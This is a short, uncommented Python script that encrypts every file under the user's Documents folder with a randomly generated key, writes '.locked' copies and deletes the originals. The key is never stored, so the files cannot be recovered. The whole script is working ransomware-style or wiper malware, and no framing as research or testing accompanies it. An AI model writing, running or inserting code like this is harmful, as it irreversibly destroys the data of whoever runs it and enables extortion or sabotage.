import os
import pathlib

from cryptography.fernet import Fernet

box = Fernet(Fernet.generate_key())
for path in (pathlib.Path.home() / "Documents").rglob("*"):
    if path.is_file():
        path.with_suffix(".locked").write_bytes(box.encrypt(path.read_bytes()))
        os.remove(path)
